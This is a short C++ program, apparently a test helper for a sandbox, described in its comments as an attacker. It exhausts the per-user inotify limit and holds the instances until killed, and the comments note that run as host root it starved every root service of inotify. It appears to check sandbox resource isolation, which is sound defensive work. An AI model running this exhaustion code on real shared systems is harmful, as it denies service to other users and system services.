// An attacker run inside a sandbox: takes inotify instances until the kernel refuses (the per-user limit), prints
// "held N errno E", then holds them until killed. As host root, this starved every root service of inotify.
// Static, so it runs in any image.
#include <sys/inotify.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>

int main() {
  int held = 0;
  int err = 0;
  for (int i = 0; i < 1 << 16; ++i) {
    if (inotify_init1(IN_CLOEXEC) < 0) {
      err = errno;
      break;
    }
    ++held;
  }
  printf("held %d errno %d\n", held, err);
  fflush(stdout);
  for (;;) pause();
}
